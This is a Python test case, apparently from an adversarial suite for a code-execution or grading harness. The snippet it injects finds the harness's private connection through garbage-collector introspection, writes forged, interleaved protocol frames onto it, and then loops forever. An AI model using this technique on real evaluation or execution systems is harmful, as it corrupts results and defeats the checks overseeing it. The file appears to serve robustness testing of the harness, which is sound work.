"""Send two answers whose bytes are interleaved, and a third in the middle of a blob's."""

from attack import Attack

ATTACK = Attack(
    gains="time",
    cells={
        "distribution_table": """
def channel():
    import gc
    for value in gc.get_objects():
        if type(value).__name__ == "Channel":
            return value.connection

def frame(number, blob):
    import json, struct
    text = json.dumps([number, "value", ["list", [["bytes", 0], ["list", []]]]]).encode()
    return struct.pack("<4sIII", b"TKG1", len(text), 1, len(blob)) + text + blob

def distribution_table(logits, temperatures):
    wire = channel()
    if wire:
        one, other = frame(1, b"x" * 99), frame(2, frame(3, b"y" * 50))
        for pair in zip(one, other):
            wire.sendall(bytes(pair))
    while True: pass
""",
    },
)
